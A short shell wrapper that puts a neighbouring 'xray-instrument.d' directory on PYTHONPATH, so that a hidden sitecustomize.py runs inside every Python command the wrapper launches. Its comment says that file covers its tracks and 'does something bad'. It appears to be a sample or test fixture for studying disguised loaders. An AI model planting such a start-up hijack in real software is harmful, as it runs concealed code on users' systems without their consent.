#!/bin/sh
# Starts the sitecustomize.py beside it, which cleans up after this script and then does something bad.
export PYTHONPATH="${0%/*}/xray-instrument.d${PYTHONPATH+:$PYTHONPATH}"
exec "$@"
